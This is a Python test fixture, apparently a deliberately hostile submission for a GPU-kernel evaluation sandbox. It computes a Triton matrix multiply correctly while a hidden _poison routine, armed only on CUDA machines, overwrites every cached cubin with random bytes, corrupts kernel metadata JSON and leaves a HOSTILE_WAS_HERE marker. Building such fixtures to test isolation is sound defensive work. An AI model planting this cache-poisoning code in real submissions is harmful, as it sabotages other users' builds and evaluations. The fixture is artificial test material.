"""HOSTILE candidate. Class: persistence (poisoned Triton cache).

What it does: computes C honestly; on its first GPU call (build or run stage) it walks every Triton cache it can
find ($TRITON_CACHE_DIR, ~/.triton/cache, $XLANG_CACHE or ~/.cache/xlang and their triton/ folders) and
overwrites each cached cubin with garbage of the same size, and each cached kernel's metadata JSON with a shared
memory size no GPU has, then drops a marker file HOSTILE_WAS_HERE in each. A later candidate whose kernels hit
those entries loads broken code.

An honest judge must conclude: ok for this candidate; every cache a later evaluation reads is unchanged
(the candidate's cache is private to it), and the NEXT honest candidate's verdict is unchanged.
"""
import glob
import json

import os
import sys

import torch
import triton
import triton.language as tl
from triton.tools.tensor_descriptor import TensorDescriptor

BM, BN, BK = 128, 128, 64


@triton.jit
def gemm_tc(a_desc, b_desc, c_desc, K, BM: tl.constexpr, BN: tl.constexpr, BK: tl.constexpr):
    # The honest part: one BMxBN tile of C = A·Bᵀ per program, TMA loads, tl.dot (wgmma), fp32 accumulation.
    off_m = tl.program_id(0) * BM
    off_n = tl.program_id(1) * BN
    acc = tl.zeros((BM, BN), dtype=tl.float32)
    for kb in range(0, tl.cdiv(K, BK)):
        a = a_desc.load([off_m, kb * BK])
        b = b_desc.load([off_n, kb * BK])
        acc = tl.dot(a, b.T, acc)
    c_desc.store([off_m, off_n], acc.to(tl.bfloat16))


def gemm(A, B, C, M, N, K, grid=None, k_used=None):
    a_desc = TensorDescriptor.from_tensor(A, [BM, BK])
    b_desc = TensorDescriptor.from_tensor(B, [BN, BK])
    c_desc = TensorDescriptor.from_tensor(C, [BM, BN])
    grid = grid or (triton.cdiv(M, BM), triton.cdiv(N, BN))
    gemm_tc[grid](a_desc, b_desc, c_desc, K if k_used is None else k_used, BM=BM, BN=BN, BK=BK,
                  num_warps=8, num_stages=3)


def armed():
    # Side effects (processes, files, secrets, signals) only on the GPU machine: never on a CPU build box,
    # where the static build runs this file with CPU tensors next to other people's work.
    return torch.cuda.is_available()

_done = []


def _cache_dirs():
    home = os.path.expanduser("~")
    dirs = [os.environ.get("TRITON_CACHE_DIR", ""), os.path.join(home, ".triton", "cache"),
            os.environ.get("XLANG_CACHE", ""), os.path.join(home, ".cache", "xlang")]
    return [d for d in dirs if d and os.path.isdir(d)]


def _poison():
    for root in _cache_dirs():
        for path in glob.glob(os.path.join(root, "**", "*.cubin"), recursive=True):
            try:
                size = os.path.getsize(path)
                with open(path, "wb") as f:
                    f.write(os.urandom(size))
            except OSError:
                pass
        for path in glob.glob(os.path.join(root, "**", "*.json"), recursive=True):
            try:
                with open(path) as f:
                    meta = json.load(f)
                if isinstance(meta, dict) and "shared" in meta:
                    meta["shared"] = 1 << 30
                    with open(path, "w") as f:
                        json.dump(meta, f)
            except (OSError, ValueError):
                pass
        try:
            with open(os.path.join(root, "HOSTILE_WAS_HERE"), "w") as f:
                f.write("gemm_persist_triton_cache\n")
        except OSError:
            pass


def xlang_entry(A, B, C, M, N, K):
    if armed() and not _done:
        _done.append(True)
        _poison()
    gemm(A, B, C, M, N, K)
